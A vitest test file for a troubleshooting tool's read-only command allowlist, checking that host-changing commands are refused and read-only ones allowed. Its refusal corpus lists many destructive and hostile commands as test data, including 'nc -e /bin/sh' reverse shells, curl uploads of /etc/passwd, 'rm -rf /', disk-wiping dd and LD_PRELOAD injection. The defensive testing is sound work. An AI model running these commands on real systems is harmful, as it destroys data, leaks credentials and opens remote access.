/**
 * Issue 12, finding 3: the read-only check is an allowlist. Every host-changing argv of the
 * audit's corpus (and more) is refused with a reason; every command the shipped flows run is
 * allowed; templated words are data only; commands that run code take only `trusted_` lets.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { INITIAL_STATE, type Effect } from '../../src/engine/types.js';
import { step } from '../../src/engine/engine.js';
import { builtinFlowsDir } from '../../src/flow/catalog.js';
import { compileFlows } from '../../src/flow/compile.js';
import { loadFlowSource, MODELINE } from '../../src/flow/load.js';
import { isError } from '../../src/flow/problem.js';
import { changesHost, readOnly } from '../../src/flow/read-only.js';
import { declaredPrograms } from '../../src/cli/catalog.js';

/** Shell-like words: spaces split, '…' quotes (no escapes). */
function words(line: string): string[] {
  const out: string[] = [];
  for (const m of line.matchAll(/'([^']*)'|(\S+)/g)) out.push(m[1] ?? m[2]!);
  return out;
}

/** Each line: an argv that changes a host (or could), refused. After `#`: a word the reason must contain. */
const CHANGES = `
awk 'BEGIN{system("touch /tmp/x")}'  # awk
awk '{print > "/tmp/x"}' /etc/passwd  # awk
gawk -f prog.awk  # runs a program
mawk 'BEGIN{}'  # awk
sed -ni 's/a/b/' f  # in place
sed -i 's/a/b/' f  # in place
sed -i.bak 's/a/b/' f  # in place
sed --in-place 's/a/b/' f  # in place
sed --in-place=.bak 's/a/b/' f  # in place
sed --in 's/a/b/' f  # in-place
sed --i 's/a/b/' f  # in-place
sed -n -i 's/a/b/' f  # in place
sed -n '1e touch /tmp/x' f  # runs a shell
sed -n 'e touch /tmp/x' f  # runs a shell
sed 's/.*/touch x/e' f  # shell
sed -n '/a/w /tmp/out' f  # writes
sed -n 'w /tmp/out' f  # writes
sed -n '1W /tmp/out' f  # writes
sed 's/a/b/w /tmp/out' f  # writes
sed -e p -e 'w /tmp/x' f  # writes
sed -e 1p '--expression=$w x' f  # writes
sed -f script.sed f  # script from a file
sed -n '1p;e id' f  # shell
sed -E 's/(a)/\\1/gw out' f  # writes
sed -n '{p;w x
}' f  # writes
sort -o /etc/passwd /etc/passwd  # writes
sort --output=/tmp/x f  # writes
sort -uo /tmp/x f  # writes
sort --compress-program=/tmp/evil f  # runs a program
sort --comp=/tmp/evil f  # write --comp in full
find / -fprint0 /tmp/x  # writes
find / -fprint /tmp/x  # writes
find / -fprintf /tmp/x '%p'  # writes
find / -fls /tmp/x  # writes
find / -delete  # deletes
find /tmp -name x -delete  # deletes
find / -exec rm '{}' ;  # runs
find / -execdir rm '{}' +  # runs
find / -ok rm '{}' ;  # runs
find / -okdir rm '{}' ;  # runs
find / -name x -o -exec id ;  # runs
env -S 'rm -rf /tmp/x'  # splits
env --split-string='touch x'  # splits
env -S'touch x'  # splits
env LD_PRELOAD=/tmp/evil.so ls  # LD_PRELOAD
env PATH=/tmp/evil ls  # PATH
env PAGER='sh -c id' systemctl status  # only locale
env -P /tmp/evil ls  # found or run
env BASH_ENV=/tmp/x ls  # only locale
env touch /tmp/x  # touch
timeout 5 touch /tmp/x  # touch
timeout -k 2 5 rm -f /tmp/x  # rm
timeout 5 kill 1  # kill
timeout --signal=KILL 5 reboot  # reboot
nice -n 5 rm x  # rm
nice touch x  # touch
ionice -c 3 rm x  # rm
ionice -p 1 -c 3  # priority
stdbuf -o0 tee /tmp/x  # tee
nohup touch x  # nohup
sudo -u root rm -rf /tmp/x  # who or where
sudo -u nobody ls  # who or where
sudo --user=root ls  # who or where
sudo -uroot ls  # who or where
sudo -g root ls  # who or where
sudo -s  # plain run
sudo -i  # plain run
sudo -E ls  # plain run
sudo -e /etc/passwd  # plain run
sudo rm -rf /tmp/x  # rm
sudo -n -- systemctl start nginx  # start
sudo -n tee /etc/x  # tee
sudo -n sh -c id  # arbitrary code
sudo -n -C 3 ls  # who or where
sudoedit /etc/passwd  # sudoedit
doas -u root ls  # who or how
doas rm x  # rm
chroot / ls  # elsewhere
nsenter -t 1 -m ls  # elsewhere
nsenter --target 1 --net ip route  # elsewhere
unshare -r ls  # elsewhere
su -c 'touch /tmp/x'  # elsewhere
su root -c id  # elsewhere
runuser -u root ls  # elsewhere
setpriv --reuid 0 ls  # elsewhere
ssh host 'rm -rf /'  # elsewhere
ssh -o ProxyCommand=x host  # elsewhere
scp a host:b  # elsewhere
rsync -a a host:b  # elsewhere
systemctl reboot  # reboot
systemctl poweroff  # poweroff
systemctl restart nginx  # restart
systemctl start nginx  # start
systemctl stop nginx  # stop
systemctl reload nginx  # reload
systemctl enable nginx  # enable
systemctl disable nginx  # disable
systemctl mask nginx  # mask
systemctl kill nginx  # kill
systemctl daemon-reload  # daemon-reload
systemctl set-property nginx CPUQuota=1%  # set-property
systemctl edit nginx  # edit
systemctl isolate rescue.target  # isolate
systemctl set-default rescue.target  # set-default
systemctl reset-failed  # reset-failed
systemctl --now disable nginx  # changing
systemctl -H host status  # another host
systemctl --host=host status  # another host
systemctl emergency  # emergency
systemctl suspend  # suspend
systemctl import-environment  # import-environment
systemctl --no-pa status  # in full
busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager Reboot  # busctl
dbus-send --system --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.Reboot  # dbus-send
loginctl terminate-user root  # loginctl
nft flush ruleset  # flush
nft add rule inet filter input drop  # add
nft delete table inet filter  # delete
nft -f /tmp/rules  # file
nft --file=/tmp/rules  # file
nft --fi /tmp/rules  # file
nft 'list ruleset; flush ruleset'  # another command
nft list ruleset ';' flush ruleset  # another command
nft -i  # terminal
nft replace rule inet filter input handle 3 accept  # replace
nft insert rule inet filter input drop  # insert
nft create table x  # create
nft reset counters  # reset
nft destroy table x  # destroy
nft -c flush ruleset  # parses
iptables --flu  # flush
iptables --flush  # flush
iptables -F  # changes the firewall
iptables -A INPUT -j DROP  # changes the firewall
iptables -I INPUT 1 -j ACCEPT  # changes the firewall
iptables -D INPUT 1  # changes the firewall
iptables -P INPUT DROP  # changes the firewall
iptables --pol INPUT DROP  # policy
iptables -X  # changes the firewall
iptables -Z  # changes the firewall
iptables -L -Z  # changes the firewall
iptables -nvL -Z  # changes the firewall
iptables -N newchain  # changes the firewall
iptables -E a b  # changes the firewall
iptables -R INPUT 1 -j DROP  # changes the firewall
iptables -t nat -F  # changes the firewall
iptables --append INPUT -j DROP  # changes the firewall
iptables --app INPUT -j DROP  # append
iptables -S -M /tmp/evil  # runs a program
iptables --modprobe=/tmp/evil -L  # runs a program
iptables -t nat  # not a listing
ip6tables -F  # changes the firewall
iptables-legacy -F  # changes the firewall
iptables-nft --flush  # changes the firewall
iptables-restore /tmp/rules  # iptables-restore
ip6tables-restore /tmp/rules  # ip6tables-restore
iptables-save -f /etc/iptables/rules.v4  # writes a file
iptables-save --file=/tmp/x  # writes a file
ebtables -F  # ebtables
ip route d default  # delete
ip route del default  # delete
ip route delete default  # delete
ip r d default  # delete
ip route a 198.18.0.0/15 dev lo  # add
ip route add default via 198.18.0.1  # add
ip route replace default via 198.18.0.1  # replace
ip route f all  # flush
ip route flush cache  # flush
ip route change default via 198.18.0.1  # change
ip route append 198.18.0.0/15 dev lo  # append
ip route restore  # restore
ip route p 198.18.0.0/15 dev lo  # prepend
ip link s lo down  # set
ip link set eth0 down  # set
ip link del dummy0  # delete
ip l a dummy0 type dummy  # add
ip addr add 198.18.0.1/15 dev lo  # add
ip a d 198.18.0.1/15 dev lo  # delete
ip addr flush dev eth0  # flush
ip neigh flush all  # flush
ip n d 198.18.0.1 dev lo  # delete
ip rule add from all lookup 100  # add
ip rule d pref 100  # delete
ip rule flush  # flush
ip -b /tmp/cmds  # -batch
ip -batch /tmp/cmds  # in full
ip -force -b /tmp/cmds  # force
ip -all netns exec id  # all
ip netns exec x id  # netns
ip netns add x  # netns
ip tuntap add tap0 mode tap  # tuntap
ip xfrm state flush  # xfrm
ip route get '{{ x }}'  # keyword
ip '{{ obj }}' show  # templated
sysctl --system  # every settings file
sysctl --sys  # every settings file
sysctl -w net.ipv4.ip_forward=1  # writes
sysctl net.ipv4.ip_forward=1  # key name
sysctl -p  # loads
sysctl -p /etc/sysctl.conf  # loads
sysctl --load=/tmp/x  # loads
sysctl -q kernel.x=1  # writing
sysctl '{{ key }}'  # templated
ss -K dst 198.18.0.1  # kills
ss --kill  # kills
ss -tK  # kills
ss --ki  # kills
ss -D /tmp/x  # writes
ss -N other -l  # namespace
wget http://198.18.0.1/  # wget
wget -O /etc/passwd http://198.18.0.1/  # wget
curl -o /tmp/x http://198.18.0.1/  # write
curl -O http://198.18.0.1/x  # writes
curl --output /tmp/x http://198.18.0.1/  # write
curl --out /tmp/x http://198.18.0.1/  # in full
curl -d x=1 http://198.18.0.1/  # sends data
curl --data-binary @/etc/passwd http://198.18.0.1/  # sends data
curl -F f=@/etc/passwd http://198.18.0.1/  # sends data
curl -T /etc/passwd http://198.18.0.1/  # sends data
curl -X POST http://198.18.0.1/  # may change
curl -X DELETE http://198.18.0.1/x  # may change
curl --request=PUT http://198.18.0.1/  # may change
curl -c /tmp/jar http://198.18.0.1/  # writes
curl -K /tmp/config  # reads options
curl -w '%output{/tmp/x}%{http_code}' http://198.18.0.1/  # writes
curl -sSo/tmp/x http://198.18.0.1/  # write
curl gopher://127.0.0.1:6379/_FLUSHALL  # not an http
curl dict://127.0.0.1:11211/flush_all  # not an http
curl -- '{{ url }}'  # --proto
curl '{{ url }}'  # after
curl --unix-socket /var/run/docker.sock http://x/containers/x/kill  # socket
curl --json '{}' http://198.18.0.1/  # sends data
curl -G -d q=1 http://198.18.0.1/  # sends data
tar -xf /tmp/a.tar  # tar
tar -C / -xzf a.tgz  # tar
unzip a.zip  # unzip
docker rm -f x  # docker
docker ps  # docker
docker exec x id  # docker
kubectl delete pod x  # kubectl
kubectl get pods  # kubectl
podman rm x  # podman
mysql -e 'DROP DATABASE x'  # mysql
psql -c 'DROP TABLE x'  # psql
redis-cli FLUSHALL  # redis-cli
mongo --eval 'db.dropDatabase()'  # mongo
date -s '2020-01-01'  # sets the clock
date --set=2020-01-01  # sets the clock
date --se=2020-01-01  # in full
date 010100002020  # sets the clock
hwclock --systohc  # hwclock
timedatectl set-time 2020-01-01  # timedatectl
hostnamectl set-hostname x  # hostnamectl
hostname newname  # sets the host name
hostname -F /tmp/x  # sets the host name
fuser -k 80/tcp  # fuser
kill -9 1  # kill
pkill nginx  # pkill
killall nginx  # killall
pgrep --signal KILL nginx  # signals
rm -rf /tmp/x  # rm
mv a b  # mv
cp a b  # cp
dd if=/dev/zero of=/dev/sda  # dd
tee /tmp/x  # tee
truncate -s 0 /var/log/syslog  # truncate
chmod 777 /etc/shadow  # chmod
chown nobody /etc  # chown
ln -s a b  # ln
mkdir /tmp/x  # mkdir
touch /tmp/x  # touch
install -m 755 a b  # install
shred /tmp/x  # shred
reboot  # reboot
shutdown -h now  # shutdown
halt  # halt
poweroff  # poweroff
init 0  # init
useradd x  # useradd
passwd root  # passwd
crontab -r  # crontab
mount /dev/sda1 /mnt  # mount
umount /  # umount
swapoff -a  # swapoff
apt-get install -y x  # apt-get
apt remove x  # apt
dpkg -i x.deb  # dpkg
yum install x  # yum
pip install x  # pip
npm install x  # npm
ufw disable  # ufw
ufw allow 22  # ufw
firewall-cmd --reload  # firewall-cmd
setenforce 0  # setenforce
modprobe x  # modprobe
sh -c 'rm -rf /'  # arbitrary code
bash -c id  # arbitrary code
/bin/bash -c ls  # arbitrary code
python3 -c 'import os'  # arbitrary code
perl -e 'unlink "x"'  # arbitrary code
xargs rm  # arbitrary code
watch ls  # arbitrary code
busybox rm x  # arbitrary code
/tmp/evil/cat /etc/passwd  # must be in
./cat x  # must be in
/usr/bin/../../tmp/cat x  # must be in
'{{ cmd }}' x  # chosen by a template
nginx  # starts the server
nginx -s reload  # signals
nginx -s stop  # signals
nginx -g 'daemon off;'  # directives
nginx -t -g 'load_module /tmp/evil.so;'  # directives
nginx -e /tmp/err -t  # error log
nginx -T -c '{{ conf }}'  # runs code
nginx -T -c '{{ processes.master.cmd.split(" -c ")[1] }}'  # runs code
nginx -t -c '{{ trusted_x }}'  # runs code
nginx -T -c'{{ conf }}'  # never an option
nginx -c /etc/nginx/nginx.conf  # starts the server
apachectl -k restart  # signals
apachectl restart  # starts the server
apachectl graceful  # starts the server
apache2ctl stop  # starts the server
httpd -X  # starts the server
httpd  # starts the server
apachectl -t -f '{{ conf }}'  # runs code
apachectl -C 'LoadModule x /tmp/x.so' -t  # directives
sshd  # starts a server
sshd -D  # not needed
sshd -T -f '{{ conf }}'  # runs code
sshd -t -o 'AuthorizedKeysCommand /tmp/x'  # not needed
service nginx restart  # only
service nginx stop  # only
service nginx start  # only
service --status-all  # every init script
service '{{ svc }}' status  # plain name
service ../../tmp/x status  # plain name
nc -l 8080  # listens
nc -lvp 8080  # listens
nc -e /bin/sh 198.18.0.1 80  # runs a program
nc -c id 198.18.0.1 80  # runs a program
nc 198.18.0.1 80  # send data
nc -vz -w 5 '{{ host }}' 80  # after
nc -zv --exec=/bin/sh 198.18.0.1 80  # not one
ping 198.18.0.1  # to stop
ping -f 198.18.0.1  # floods
ping -c 1000000 198.18.0.1  # up to 10
journalctl --vacuum-size=1M  # changes the journal
journalctl --vacuum-time=1s  # changes the journal
journalctl --rotate  # changes the journal
journalctl --flush  # changes the journal
journalctl --cursor-file=/tmp/x  # changes the journal
journalctl -f  # does not end
journalctl --vacuum-s=1M  # in full
tail -f /var/log/syslog  # without end
tail -F /var/log/syslog  # without end
tail -n 10 '{{ path }}'  # after
ls -la '{{ dir }}'  # after
ls --color=always -l '{{ x }}'  # after
cat '{{ f }}'  # after
cat -- '-{{ f }}'  # never an option
grep -e x '{{ f }}'  # after
head '-{{ n }}' f  # never an option
head '--lines={{ n }}0' f  # never an option
curl -sS --max-time=5 '--url={{ u }}'  # never an option
uniq a b  # second operand
file -C -m /tmp/x  # compiled
getent -s evil passwd  # NSS
getent shadow root  # database
getent ahostsv4 '{{ host }}'  # after
aws ec2 terminate-instances --instance-ids i-1  # describe
aws ec2 run-instances --image-id x  # describe
aws ec2 modify-instance-attribute --instance-id i-1  # describe
aws s3 rm s3://x/y  # service
aws s3 cp a s3://x/  # service
aws iam create-user --user-name x  # service
aws ec2 describe-instances --debug  # session tokens
aws '{{ svc }}' describe-instances  # templated
aws ec2 describe-instances --region '{{ r }}'  # templated
aws configure set aws_secret_access_key x  # service
strace -o /tmp/x ls  # strace
tcpdump -w /tmp/x  # tcpdump
conntrack -F  # conntrack
ethtool -s eth0 speed 10  # ethtool
tc qdisc add dev lo root netem delay 1s  # tc
arp -d 198.18.0.1  # arp
route del default  # route
ifconfig lo down  # ifconfig
openssl req -new -out /tmp/x  # openssl
logger x  # logger
wall hi  # wall
at now  # at
systemd-run touch /tmp/x  # systemd-run
echo '{{ x }}'  # option could be
printf '{{ fmt }}' x  # option could be
test '{{ x }}' = y  # operator
`;

function corpus(): Array<{ argv: string[]; reason: string; line: string }> {
  const out: Array<{ argv: string[]; reason: string; line: string }> = [];
  // A line may continue (an argv word with a newline) until the next line with a ` # `.
  let pending = '';
  for (const raw of CHANGES.split('\n')) {
    if (!pending && !raw.trim()) continue;
    const line = pending ? `${pending}\n${raw}` : raw;
    const hash = line.lastIndexOf('  # ');
    if (hash < 0) {
      pending = line;
      continue;
    }
    pending = '';
    out.push({ argv: words(line.slice(0, hash)), reason: line.slice(hash + 4).trim(), line: line.slice(0, hash) });
  }
  return out;
}

describe('the allowlist refuses what changes a host', () => {
  const cases = corpus();
  it('the corpus has at least 223 host-changing argvs, all different', () => {
    expect(cases.length).toBeGreaterThanOrEqual(223);
    expect(new Set(cases.map((c) => JSON.stringify(c.argv))).size).toBe(cases.length);
  });
  for (const c of cases) {
    it(`refuses: ${c.line.replace(/\n/g, '\\n')}`, () => {
      const why = changesHost(c.argv);
      expect(why, 'refused').not.toBeNull();
      if (c.reason !== 'none') expect(why).toContain(c.reason);
    });
  }
});

/** Read-only argvs: every one allowed (the form flow authors need). */
const READS = `
ss -ltnp
ss -tlnp state listening
ss --listening --tcp --numeric --processes
ss --list --tcp
ss -H -o state established '( dport = :80 )'
ps -o pid=,args= -p 1
ps aux
ps -eo pid,comm
nginx -T
nginx -t
nginx -t -q
nginx -V
nginx -T -c /etc/nginx/nginx.conf
nginx -tc/etc/nginx/nginx.conf
apachectl -S
apachectl -t
apachectl configtest
apache2ctl -t -D DUMP_VHOSTS
httpd -M
sshd -T
sshd -t
sshd -T -C user=root,host=x,addr=198.18.0.1
curl -sS -o /dev/null -w '%{http_code}\\n' --max-time 10 http://198.18.0.1/
curl -sSv -o /dev/null https://198.18.0.1/
curl -I http://198.18.0.1/
curl -sS -X HEAD http://198.18.0.1/
curl --proto =http,https -sS -- '{{ target.url }}'
curl -H 'Host: {{ target.host }}' 'http://127.0.0.1:{{ string(target.port) }}/'
curl -sSo/dev/null http://198.18.0.1/
nc -vz -w 5 -- 198.18.0.1 80
nc -vz -w 5 -- '{{ target.host }}' '{{ string(target.port) }}'
nc -zv 127.0.0.1 22
getent ahostsv4 -- '{{ target.host }}'
getent hosts localhost
getent passwd root
ip route
ip route get 198.18.0.1
ip route get to '{{ addr }}'
ip r g 198.18.0.1
ip r
ip ro sh
ip route s
ip route show table all
ip -4 -br addr show
ip a
ip addr show dev lo
ip -j -p link show
ip link
ip l
ip n
ip neigh show
ip rule
ip rule s
ip -s -d link show lo
ip route get from 198.18.0.2 to 198.18.0.1 iif lo
ip netconf show
iptables -S
iptables -L -n -v
iptables -nvL INPUT
iptables -t nat -S
iptables --list-rules
iptables --list-r
iptables -w -S
ip6tables -S
iptables-save
iptables-save -t filter -c
ip6tables-save
nft list ruleset
nft -a list ruleset
nft list table inet filter
nft -j list ruleset
nft list chain inet filter input
systemctl status nginx
systemctl status --no-pager --lines=5 -- '{{ svc }}'
systemctl is-active nginx
systemctl is-enabled nginx
systemctl show -p ActiveState nginx
systemctl list-units --type=service --no-pager
systemctl cat nginx
systemctl
service nginx status
service '{{ trusted_svc }}' status
tail -n 2000 /var/log/nginx/access.log
tail -n 2000 -- '{{ route.access_log }}'
tail -n20 /var/log/syslog
head -n 5 /etc/hosts
head -c 100 /etc/hosts
ls -la /var/www
ls -la -- '{{ route.dir }}'
ls -ld /etc/nginx
find /var/www -name x
find /var/www /srv -maxdepth 4 -name '{{ route.name }}' -not -path '*/proc/*'
find -- '{{ route.root }}' /var/www -maxdepth 4 -name '{{ route.name }}' -not -path '*/proc/*'
find /etc -type f -newer /etc/hosts -print
find -L /etc -maxdepth 1 -printf '%p %s\\n'
cat /etc/nginx/nginx.conf
cat -n /etc/hosts
cat -- '{{ file }}'
readlink -f /proc/1/exe
readlink /proc/1/exe
stat -c '%U %a' /etc/nginx
stat -L /etc/nginx/sites-enabled/default
aws ec2 describe-instances --output json --filters 'Name=ip-address,Values={{ target.host }}'
aws ec2 describe-route-tables --output json --filters 'Name=vpc-id,Values={{ vpc }}' Name=association.main,Values=true
aws ec2 describe-security-groups --output json --filters 'Name=group-id,Values={{ sg_ids }}'
aws --region us-east-1 ec2 describe-network-acls
aws sts get-caller-identity
journalctl -u nginx -n 50 --no-pager
journalctl --unit=nginx --since=-1h --no-pager
journalctl -u '{{ svc }}' -n 20
journalctl -k -b
dig example.test
dig +short @198.18.0.1 example.test A
dig -x 198.18.0.1
dig -q '{{ name }}'
host example.test
host -t A example.test 198.18.0.1
ping -c 3 198.18.0.1
ping -c 3 -W 2 -- '{{ target.host }}'
lsof -nP -i :80
lsof -p 1
lsof -i TCP:80 -sTCP:LISTEN
grep -n listen /etc/nginx/nginx.conf
grep -rn --include=*.conf listen /etc/nginx
grep -e '{{ pattern }}' /etc/hosts
grep -c x -- '{{ file }}'
wc -l /etc/passwd
sed -n 1p f
sed -n '1,20p' /etc/nginx/nginx.conf
sed -n '/server {/,/}/p' /etc/nginx/nginx.conf
sed -n -e 's/^listen //p' -- '{{ file }}'
sed -E 's/a+/b/g' f
sed '/^#/d;s/x/y/' f
sed -n '$=' f
sed 'r /etc/hosts' f
sort -n f
sort -u -k 2 f
uniq -c f
cut -d: -f1 /etc/passwd
sysctl net.ipv4.ip_forward
sysctl -n net.core.somaxconn net.ipv4.tcp_syncookies
sysctl -a
sysctl --all
date
date +%s
date -u +%FT%T
id
id -u
whoami
uname -a
hostname
hostname -f
uptime
free -m
df -h
du -sh /var/log
echo hi
echo 'port {{ string(target.port) }}' 3
printf '%s' '{{ q }}'
printf '%s\\n' a b
test -e /etc/nginx/nginx.conf
test -e '{{ f }}'
[ -d /etc/nginx ]
true
sleep 1
sudo -n ss -ltnp
sudo -n -- iptables -S
timeout 5 ss -ltnp
timeout -k 2 5 nginx -T
env LC_ALL=C ss -ltnp
env -u LANG ls
nice -n 10 find /var/www -name x
stdbuf -oL journalctl -n 5
/usr/sbin/nginx -T
/usr/bin/ss -ltnp
/sbin/ip route
pgrep -a nginx
pidof nginx
netstat -tlnp
file /bin/ls
realpath /etc/nginx
basename /etc/nginx
getenforce
ufw status verbose
ufw status
`;

describe('the allowlist allows what only reads', () => {
  const trusted = new Set(['trusted_svc']);
  for (const line of READS.split('\n').filter((l) => l.trim())) {
    it(`allows: ${line}`, () => {
      expect(changesHost(words(line), { trusted })).toBeNull();
    });
  }

  it('classifies programs that run code while reading: nginx -T, apachectl -t, sshd -T, service status', () => {
    for (const a of [['nginx', '-T'], ['apachectl', '-t'], ['sshd', '-T'], ['service', 'nginx', 'status'], ['sudo', '-n', 'nginx', '-t']]) expect(readOnly(a).runsCode, a.join(' ')).toBe(true);
    for (const a of [['ss', '-ltnp'], ['cat', '/etc/hosts'], ['iptables', '-S']]) expect(readOnly(a).runsCode, a.join(' ')).toBe(false);
  });

  it('classifies programs that send traffic to other hosts (what `together` never runs ahead): curl, nc, ping, traceroute', () => {
    for (const a of [['curl', '-sS', '--', 'http://198.18.2.10/'], ['nc', '-vz', '-w', '5', '--', '198.18.2.10', '80'], ['ping', '-c', '1', '--', '198.18.2.10'], ['traceroute', '-n', '198.18.2.10'], ['timeout', '5', 'curl', '-sS', '--', 'http://198.18.2.10/']]) {
      expect(readOnly(a).sends, a.join(' ')).toBe(true);
    }
    for (const a of [['ss', '-ltnp'], ['nginx', '-T'], ['getent', 'ahosts', '--', 'web'], ['ip', 'route', 'get', 'to', '198.18.2.10'], ['aws', 'ec2', 'describe-instances']]) expect(readOnly(a).sends, a.join(' ')).toBe(false);
  });

  it('takes a templated -c in nginx -T only from a trusted_ let, as the whole word', () => {
    const argv = ['nginx', '-T', '-c', '{{ trusted_nginx_c }}'];
    expect(changesHost(argv, { trusted: new Set(['trusted_nginx_c']) })).toBeNull();
    expect(changesHost(argv, { trusted: new Set() })).toContain('runs code');
    expect(changesHost(['nginx', '-T', '-c', '{{ nginx_c }}'], { trusted: new Set(['nginx_c']) })).toContain('trusted_');
    expect(changesHost(['nginx', '-T', '-c', '/x/{{ trusted_nginx_c }}'], { trusted: new Set(['trusted_nginx_c']) })).toContain('runs code');
    expect(changesHost(['nginx', '-T', '-c', '{{ trusted_nginx_c + "x" }}'], { trusted: new Set(['trusted_nginx_c']) })).toContain('runs code');
  });

  it('says what is unknown, and resolves abbreviations as getopt_long does', () => {
    expect(changesHost(['frobnicate', '-x'])).toBe('frobnicate is not a program tshoot knows to be read-only');
    expect(changesHost(['ss', '-ltnQ'])).toBe('ss: option -Q (in -ltnQ) is not one tshoot knows to be read-only');
    expect(changesHost(['iptables', '--flu'])).toBe('iptables --flu (that is --flush) changes the firewall');
    expect(changesHost(['iptables', '--li'])).toMatch(/^iptables: --li is ambiguous \(/);
    expect(changesHost(['ip', 'route', 'd', 'default'])).toBe('ip route d (that is delete) changes the host');
    expect(changesHost(['ip', 'link', 's', 'lo', 'down'])).toBe('ip link s (that is set) changes the host');
  });
});

describe('every command the shipped flows run', () => {
  /** Run nodes' argvs of each shipped flow, with its `let` names. */
  function shipped(texts: Record<string, string>) {
    const out: Array<{ where: string; argv: string[]; lets: Set<string> }> = [];
    for (const [file, text] of Object.entries(texts)) {
      const doc = parse(text) as { let?: Record<string, string>; nodes: Record<string, { kind: string; argv?: string[] }> };
      const lets = new Set(Object.keys(doc.let ?? {}));
      for (const [id, node] of Object.entries(doc.nodes)) if (node.kind === 'run') out.push({ where: `${file} node "${id}"`, argv: node.argv!, lets });
    }
    return out;
  }
  const dir = builtinFlowsDir();
  const texts = Object.fromEntries(
    readdirSync(dir)
      .filter((f) => f.endsWith('.yaml'))
      .map((f) => [f, readFileSync(join(dir, f), 'utf8')]),
  );

  it('are all allowed (a failure lists each refused command: see the edits below)', () => {
    const runs = shipped(texts);
    expect(runs.length).toBeGreaterThan(40);
    const refused = runs.map((r) => ({ ...r, why: changesHost(r.argv, { trusted: r.lets }) })).filter((r) => r.why);
    expect(refused.map((r) => `${r.where}: ${r.why}`)).toEqual([]);
  });

});

describe('at run time, a templated word that starts with "-" is refused', () => {
  const flow = `${MODELINE}
id: dash
title: { en: Dash, ja: ダッシュ }
needs_target: false
start: q
nodes:
  q:
    kind: ask
    input: input
    text: { en: Which folder?, ja: どのフォルダ? }
    next: look
  look:
    kind: run
    title: { en: Look, ja: 見る }
    role: local
    argv: [ls, -la, --, "{{ q }}"]
    next: done
  done:
    kind: end
    title: { en: Done, ja: 完了 }
    next_steps: [{ en: none, ja: なし }]
`;
  const src = loadFlowSource('dash.yaml', flow);
  const compiled = compileFlows([src.flow!]);
  const run = (answer: string): readonly Effect[] => {
    const s1 = step({ flows: compiled.flows }, INITIAL_STATE, { kind: 'start', flow: 'dash', target: null as never, hosts: { client: '', server: '', bastion: '' }, lang: 'en' });
    return step({ flows: compiled.flows }, s1.state, { kind: 'answer', id: 'q', value: answer }).effects;
  };

  it('the flow lints clean', () => {
    expect(compiled.problems.filter(isError)).toEqual([]);
  });

  it('an ordinary value runs', () => {
    const exec = run('/var/www').find((e) => e.kind === 'exec');
    expect(exec?.kind === 'exec' && exec.commands[0]?.argv).toEqual(['ls', '-la', '--', '/var/www']);
  });

  it('"-i", "--output=/tmp/x" and a value with escapes: no command, an error naming the node and the value, escaped', () => {
    for (const [answer, shown] of [
      ['-i', '"-i"'],
      ['--output=/tmp/x', '"--output=/tmp/x"'],
      ['-\x1b]0;x\x07\u202e', '"-\\u001b]0;x\\u0007\\u202e"'],
    ] as const) {
      const effects = run(answer);
      expect(effects.some((e) => e.kind === 'exec'), answer).toBe(false);
      const outcome = effects.map((e) => (e.kind === 'show' && e.item.kind === 'outcome' ? e.item.outcome : null)).find((o) => o);
      expect(outcome, answer).toMatchObject({ kind: 'error', node: 'look' });
      const message = (outcome as { message: string }).message;
      expect(message).toContain(shown);
      expect(message).toContain('never an option');
      // eslint-disable-next-line no-control-regex
      expect(message).not.toMatch(/[\x00-\x1f\x7f\u202e]/);
    }
  });
});

describe('programs the person running tshoot declares read-only (TSHOOT_READ_ONLY_PROGRAMS)', () => {
  const programs = new Set(['/opt/app/bin/health']);
  it('runs them with any literal arguments, and templated data', () => {
    expect(changesHost(['/opt/app/bin/health', '--deep', '{{ target.host }}'], { programs })).toBeNull();
  });
  it('still refuses a templated word that starts with "-"', () => {
    expect(changesHost(['/opt/app/bin/health', '-{{ x }}'], { programs })).toMatch(/starts with "-"/);
  });
  it('only the exact path: another program, or the same name elsewhere, stays refused', () => {
    expect(changesHost(['/opt/app/bin/health'])).not.toBeNull();
    expect(changesHost(['/tmp/health'], { programs })).not.toBeNull();
    expect(changesHost(['health'], { programs })).not.toBeNull();
  });
  it('the variable is read from the environment of the CLI, absolute paths only', () => {
    expect([...declaredPrograms({ TSHOOT_READ_ONLY_PROGRAMS: '/opt/a:relative:/opt/../etc/b::/usr/local/bin/c' })]).toEqual(['/opt/a', '/usr/local/bin/c']);
    expect(declaredPrograms({}).size).toBe(0);
  });
});
